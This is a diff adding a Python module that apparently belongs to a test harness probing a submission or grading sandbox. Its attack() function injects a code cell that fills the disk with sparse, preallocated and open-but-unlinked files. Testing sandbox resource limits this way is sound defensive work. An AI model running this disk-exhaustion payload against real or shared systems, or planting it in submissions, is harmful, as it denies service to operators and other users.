@@ -1,0 +1,26 @@
+"""Fills the disk in many files, in one, in files whose names it removes at once, sparse and preallocated."""
+
+CODE = r"""
+import mmap, os
+
+open_files, block = [], bytes(32 << 20)
+tried(
+    lambda: open("sparse", "wb").truncate(1 << 40),
+    lambda: os.posix_fallocate(os.open("fixed", os.O_CREAT | os.O_RDWR), 0, 1 << 34),
+)
+for number in range(60):
+    file = open(f"part{number}", "wb")
+    os.unlink(f"part{number}") if number % 2 else None
+    open_files.append(file)
+    try:
+        for _ in range(8):
+            file.write(block)
+        file.flush()
+    except OSError as error:
+        print(error)
+        break
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
